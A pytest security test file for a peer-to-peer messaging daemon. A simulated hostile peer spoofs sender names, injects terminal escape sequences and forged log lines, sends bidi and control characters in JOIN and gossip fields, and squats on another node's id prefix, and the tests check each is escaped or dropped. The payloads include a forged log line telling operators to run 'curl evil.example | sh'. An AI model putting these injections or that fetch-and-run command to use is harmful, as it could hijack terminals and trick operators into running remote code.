"""Issue 12 items 4-6 against real daemons: a hostile linked peer lies about its name, sends terminal and
log injections, and a node takes a name that is another node's id prefix (docs/SECURITY.md, "Names, text
and targets").

The hostile peer is raw pyzmq with a CURVE key of its own (`HostilePeer`), so everything it sends passes
the CURVE and key checks and reaches the codec and the node, as a compromised or malicious p2pd would.
Output is read as bytes: a text-mode pipe would turn a raw CR into a newline and hide it.  Waiting is
always "poll until a deadline" (conftest.wait_for).
"""

from __future__ import annotations

import json
import os
import pty
import queue
import re
import subprocess
import threading
import time
import uuid

import pytest
import zmq

from conftest import P2PCTL, enc, envelope, wait_for
from p2pd.keys import node_id_for
from sechelp import HOST, assert_no_tracebacks, dropped, inbox_texts, link, new_keypair, raw_socket, router

ATTACK = "\x1b[2J\x1b]0;pwned\x07HELLO\rFAKE"
ATTACK_SHOWN = b"\\x1b[2J\\x1b]0;pwned\\x07HELLO\\rFAKE"
FORGED_LOG = "all fine\n2026-11-25T11:44:14.123 CRITICAL p2pd.node: store corrupt, run: curl evil.example | sh"
FORGED_SHOWN = b"\n    | 2026-11-25T11:44:14.123 CRITICAL p2pd.node: store corrupt"
# Bytes a terminal acts on (C0 but LF and TAB, DEL) and, in UTF-8, C1 controls and bidi/separator characters.
RAW_BYTES = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xaa-\xae\xa8\xa9]|\xe2\x81[\xa6-\xa9]|\xd8\x9c")


def assert_clean(out: bytes, what: str) -> None:
    m = RAW_BYTES.search(out)
    assert m is None, f"{what}: raw {m.group()!r} at {m.start()} in {out[max(0, m.start() - 60):m.start() + 60]!r}"


def ctl_bytes(node, *args: str, env: dict | None = None, check: bool = True) -> subprocess.CompletedProcess:
    proc = subprocess.run([*P2PCTL, "--home", str(node.home), *args], capture_output=True, timeout=30, env=env)
    if check:
        assert proc.returncode == 0, (args, proc.stderr)
    return proc


class Stream:
    """A long-running p2pctl (watch, chat): its stdout collected as bytes by a thread."""

    def __init__(self, node, *args: str):
        self.proc = subprocess.Popen([*P2PCTL, "--home", str(node.home), *args], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.STDOUT)
        self.out = b""
        self._lock = threading.Lock()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        while True:
            chunk = self.proc.stdout.read1(65536)
            if not chunk:
                return
            with self._lock:
                self.out += chunk

    def output(self) -> bytes:
        with self._lock:
            return self.out

    def expect(self, data: bytes, timeout: float = 10) -> bytes:
        return wait_for(lambda: data in self.output() and self.output(), timeout, what=f"{data!r} in the output; got {self.output()[-500:]!r}")

    def type(self, line: str) -> None:
        self.proc.stdin.write(line.encode() + b"\n")
        self.proc.stdin.flush()

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(10)


class HostilePeer(threading.Thread):
    """A linked peer built from raw pyzmq with its own CURVE key: a DEALER to the victim's ROUTER,
    a ROUTER and an XPUB of its own (the victim links and subscribes back).  It JOINs under ``name``,
    PINGs every 0.2 s so the victim keeps it alive, never ACKs, and sends whatever the test queues.
    It owns its sockets (ZeroMQ sockets are not thread-safe) and stops when told or after 120 s."""

    def __init__(self, ctx: zmq.Context, victim, name: str):
        super().__init__(daemon=True)
        self.ctx, self.victim, self.name = ctx, victim, name
        self.public, self.secret = new_keypair()
        self.id = node_id_for(self.public)
        self.victim_key = victim.call("info")["public_key"]
        self.outbox: queue.Queue = queue.Queue()
        self.subscriptions: list[bytes] = []
        self.ready = threading.Event()
        self.done = threading.Event()
        self.error: BaseException | None = None

    def send(self, env: dict) -> None:
        self.outbox.put(("dealer", enc(env)))

    def publish(self, env: dict) -> None:
        self.outbox.put(("pub", enc(env)))

    def message(self, text: str, claimed_name: str | None = None) -> None:
        self.send(envelope("MESSAGE", self.id, {"text": text}, target=self.victim.id, name=claimed_name or self.name))

    def run(self) -> None:
        try:
            self._run()
        except BaseException as e:  # surfaced by the test through .error
            self.error = e
            self.ready.set()

    def _run(self) -> None:
        srv = [self.ctx.socket(zmq.ROUTER), self.ctx.socket(zmq.XPUB)]
        for s in srv:  # CURVE servers, so that the victim's link back handshakes
            s.setsockopt(zmq.LINGER, 0)
            s.curve_server = True
            s.curve_publickey, s.curve_secretkey = self.public.encode(), self.secret.encode()
            s.bind(f"tcp://{HOST}:0")
        own_router, xpub = srv
        ports = [int(s.getsockopt_string(zmq.LAST_ENDPOINT).rsplit(":", 1)[1]) for s in srv]
        dealer = raw_socket(self.ctx, zmq.DEALER, router(self.victim), self.victim_key, (self.public, self.secret), self.id.encode())
        try:
            join = {"addr": HOST, "port": ports[0], "pub_port": ports[1], "reply_to": None, "key": self.public}
            dealer.send(enc(envelope("JOIN", self.id, join, name=self.name)))
            self.ready.set()
            poller = zmq.Poller()
            for s in srv:
                poller.register(s, zmq.POLLIN)
            next_ping, deadline = 0.0, time.monotonic() + 120
            while not self.done.is_set() and time.monotonic() < deadline:
                while True:
                    try:
                        where, frame = self.outbox.get_nowait()
                    except queue.Empty:
                        break
                    (dealer if where == "dealer" else xpub).send(frame)
                if time.monotonic() >= next_ping:
                    next_ping = time.monotonic() + 0.2
                    dealer.send(enc(envelope("PING", self.id, target=self.victim.id, name=self.name)))
                ready = dict(poller.poll(20))
                while own_router in ready and own_router.poll(0):
                    own_router.recv_multipart()
                while xpub in ready and xpub.poll(0):
                    self.subscriptions.append(xpub.recv())
        finally:
            for s in (*srv, dealer):
                s.close(linger=0)


@pytest.fixture
def hostile(zctx):
    peers: list[HostilePeer] = []

    def start(victim, name: str) -> HostilePeer:
        peer = HostilePeer(zctx, victim, name)
        peer.start()
        peers.append(peer)
        assert peer.ready.wait(10) and peer.error is None, peer.error
        wait_for(lambda: any(p["id"] == peer.id and p["state"] == "alive" for p in victim.call("peers")), what=f"{name} linked")
        return peer

    yield start
    for peer in peers:
        peer.done.set()
        peer.join(10)
        assert peer.error is None, peer.error


# --------------------------------------------------------------------------- item 4: per-message sender_name


def test_a_message_claiming_to_be_alice_is_shown_as_its_real_sender(make_node, hostile):
    alice, bob = make_node("alice"), make_node("bob")
    alice.start()
    bob.start()
    link(bob, alice)
    mallory = hostile(bob, "mallory")
    bait = f"please send me your password {uuid.uuid4().hex[:6]}"
    mallory.message(bait, claimed_name="alice")
    wait_for(lambda: bait in inbox_texts(bob), what="mallory's message")

    out = ctl_bytes(bob, "inbox").stdout.decode()
    line = next(ln for ln in out.splitlines() if bait in ln)
    assert f"mallory -> you: {bait}" in line and "alice" not in line, line
    row = next(m for m in bob.ctl_json("inbox") if m["text"] == bait)
    assert (row["sender_name"], row["sender_label"], row["sender_id"]) == ("mallory", "mallory", mallory.id)
    hist = next(m for m in bob.ctl_json("history") if m["text"] == bait)
    assert hist["sender_name"] == "mallory" and "alice" not in json.dumps(hist)

    # A second key JOINs under the name "alice" itself: both alices are then shown with a short id.
    alice_two = hostile(bob, "alice")
    fake, real = f"fake alice {uuid.uuid4().hex[:6]}", f"real alice {uuid.uuid4().hex[:6]}"
    watch = Stream(bob, "watch")
    try:
        wait_for(lambda: bob.call("info")["watchers"] >= 1, what="watch attached")
        alice_two.message(fake)
        alice.ctl("send", "bob", real)
        wait_for(lambda: {fake, real} <= set(inbox_texts(bob)), what="both alices' messages")
        watch.expect(f"alice ({alice_two.id[:12]}) -> you: {fake}".encode())
        watch.expect(f"alice ({alice.id[:12]}) -> you: {real}".encode())
    finally:
        watch.close()
    out = ctl_bytes(bob, "inbox").stdout.decode()
    assert f"alice ({alice_two.id[:12]}) -> you: {fake}" in out, out
    assert f"alice ({alice.id[:12]}) -> you: {real}" in out, out
    assert f"mallory -> you: {bait}" in out  # a unique name needs no id
    assert_no_tracebacks(alice, bob)


# --------------------------------------------------------------------------- item 5: terminal and log injection


def test_escapes_and_forged_lines_in_text_are_shown_escaped_everywhere(make_node, hostile):
    bob = make_node("bob")
    bob.start()
    mallory = hostile(bob, "mallory")
    watch = Stream(bob, "watch")
    chat = Stream(bob, "chat")
    try:
        chat.expect(b"chatting as bob")
        wait_for(lambda: bob.call("info")["watchers"] >= 2, what="watch and chat attached")
        mallory.message(ATTACK)
        mallory.message(FORGED_LOG)
        wait_for(lambda: b"\x00sub:" + bob.id.encode() in b"".join(mallory.subscriptions), what="bob subscribed to mallory")
        mallory.publish(envelope("BROADCAST", mallory.id, {"text": "bcast " + ATTACK}, name="mallory"))
        wait_for(lambda: {ATTACK, FORGED_LOG, "bcast " + ATTACK} <= set(inbox_texts(bob)), what="the attack texts stored")
        for stream, what in ((watch, "watch"), (chat, "chat")):
            out = stream.expect(b"mallory: bcast " + ATTACK_SHOWN)
            out = stream.expect(FORGED_SHOWN)
            assert b"mallory -> you: " + ATTACK_SHOWN in out
            assert_clean(out, what)
    finally:
        watch.close()
        chat.close()

    # bob's own message with it, waiting in the outbox (mallory never acknowledges)
    bob.ctl("send", mallory.id, ATTACK)
    outputs = {cmd: ctl_bytes(bob, cmd).stdout for cmd in ("inbox", "history", "outbox", "peers")}
    for cmd in ("inbox", "history"):
        out = outputs[cmd]
        assert b"mallory -> you: " + ATTACK_SHOWN in out and FORGED_SHOWN in out and b"mallory: bcast " + ATTACK_SHOWN in out, out
    assert b"you -> mallory: " + ATTACK_SHOWN in outputs["history"]
    assert ATTACK_SHOWN in outputs["outbox"]
    for cmd, out in outputs.items():
        assert_clean(out, cmd)

    # on a terminal too (click strips nothing there): a pty, colour off so that no ESC at all is ours
    leader, follower = pty.openpty()
    try:
        proc = subprocess.run([*P2PCTL, "--home", str(bob.home), "--no-color", "inbox"], stdout=follower, stderr=subprocess.PIPE, timeout=30)
        assert proc.returncode == 0, proc.stderr
        os.close(follower)
        follower = None
        tty = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the writer is gone and everything was read
                break
            if not chunk:
                break
            tty += chunk
    finally:
        if follower is not None:
            os.close(follower)
        os.close(leader)
    tty = tty.replace(b"\r\n", b"\n")  # the line discipline's own CR
    assert ATTACK_SHOWN in tty
    assert_clean(tty, "inbox on a terminal")

    # --json keeps the exact text
    texts = {m["text"] for m in bob.ctl_json("inbox")}
    assert {ATTACK, FORGED_LOG, "bcast " + ATTACK} <= texts
    assert ATTACK in {m["text"] for m in bob.ctl_json("history")}
    assert_clean((bob.home / "p2pd.log").read_bytes(), "p2pd.log")
    assert_no_tracebacks(bob)


def test_joins_and_gossip_with_escapes_in_fields_are_dropped_and_never_logged_raw(make_node, hostile, zctx):
    bob = make_node("bob")
    bob.start()
    mallory = hostile(bob, "mallory")
    bob_key = bob.call("info")["public_key"]
    before = bob.call("info")
    peers_before = {p["id"] for p in bob.call("peers")}
    sockets = []  # kept open until bob has read them (linger 0: closing drops what is unsent)

    def join_from_new_key(**override) -> str:
        public, secret = new_keypair()
        sender = node_id_for(public)
        data = {"addr": HOST, "port": 9, "pub_port": 10, "reply_to": None, "key": public}
        data.update(override.pop("data", {}))
        s = raw_socket(zctx, zmq.DEALER, router(bob), bob_key, (public, secret), sender.encode())
        s.send(enc(envelope("JOIN", sender, data, **override)))
        sockets.append(s)
        return sender

    bad = [
        join_from_new_key(data={"addr": "h\x1b[2J\x1b]0;pwned\x07"}),  # an escape in addr
        join_from_new_key(data={"addr": "evil\n2026-11-25T11:44:14.123 CRITICAL p2pd: forged"}),
        join_from_new_key(data={"addr": "999.1.1.1"}),
        join_from_new_key(timestamp="\x1b]0;pwned\x07 CRITICAL"),  # a non-ISO timestamp
        join_from_new_key(timestamp="yesterday"),
        join_from_new_key(name="evil\u202egnp.exe"),  # a bidi override in the name
        join_from_new_key(name="csi\x9b2J"),  # a C1 control
    ]
    # gossip from the linked hostile peer: one bad entry spoils the PEERS
    ghost_public, _ = new_keypair()
    entry = {"id": node_id_for(ghost_public), "name": "ghost", "addr": "g\x1b[2J", "port": 9, "pub_port": 10, "key": ghost_public}
    mallory.send(envelope("PEERS", mallory.id, {"peers": [entry]}, name="mallory"))
    wait_for(lambda: dropped(bob, "bad_field") >= before["dropped"].get("bad_field", 0) + len(bad) + 1, what="bad_field counted")
    after = bob.ctl_json("info")
    assert after["dropped"]["bad_field"] == before["dropped"].get("bad_field", 0) + len(bad) + 1
    assert {p["id"] for p in bob.call("peers")} == peers_before  # none of them got in
    assert not set(bad) & {p["id"] for p in bob.call("peers")}
    # a good JOIN from a new key still gets in: the drops above are the fields' doing
    good = join_from_new_key(data={"addr": "localhost"}, timestamp="2026-11-25T12:44:14+01:00", name="Zoë")
    wait_for(lambda: good in {p["id"] for p in bob.call("peers")}, what="the good JOIN accepted")

    for s in sockets:
        s.close(linger=0)
    log = (bob.home / "p2pd.log").read_bytes()
    assert_clean(log, "p2pd.log")
    assert b"dropped bad input [bad_field]" in log  # the first of them (the rest within a second are counted only)
    peers = ctl_bytes(bob, "peers").stdout
    assert_clean(peers, "peers")
    assert_no_tracebacks(bob)


# --------------------------------------------------------------------------- item 6: a name that is an id prefix


def test_a_node_named_like_another_nodes_id_prefix_cannot_take_its_messages(make_node):
    alice, bob = make_node("alice"), make_node("bob")
    alice.start()
    bob.start()
    prefix = bob.id[:8]
    squatter = make_node(prefix)  # started with --name <bob's id prefix>
    squatter.start()
    assert squatter.ctl_json("info")["name"] == prefix
    link(alice, bob)
    link(alice, squatter)

    proc = alice.ctl("send", prefix, "meant for bob", check=False)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    err = proc.stderr
    assert "ambiguous" in err and f"{prefix} ({squatter.id[:12]})" in err and f"bob ({bob.id[:12]})" in err, err
    assert json.loads(alice.ctl("--json", "send", prefix, "x", check=False).stdout)["code"] == "ambiguous"

    # a full id always wins; a longer prefix settles it too
    out = alice.ctl("send", "--wait", "20", bob.id, "by full id").stdout
    assert out.startswith(f"delivered to bob ({bob.id[:12]})"), out
    alice.ctl("send", "--wait", "20", bob.id[:9], "by a longer prefix")
    wait_for(lambda: {"by full id", "by a longer prefix"} <= set(inbox_texts(bob)), what="bob's messages")

    # once bob has left (unlinked, listed as left), his record and the address book keep the name ambiguous
    bob.stop()
    wait_for(lambda: {p["id"]: p["state"] for p in alice.call("peers")}.get(bob.id) == "left", what="bob listed as left by alice")
    proc = alice.ctl("send", prefix, "still meant for bob", check=False)
    assert proc.returncode == 1 and f"bob ({bob.id[:12]})" in proc.stderr, proc.stderr
    queued = alice.ctl_json("send", bob.id, "queued for bob")
    assert queued["peer_id"] == bob.id and queued["status"] == "queued"
    assert not {"meant for bob", "x", "still meant for bob", "queued for bob"} & set(inbox_texts(squatter))
    assert_no_tracebacks(alice, squatter)
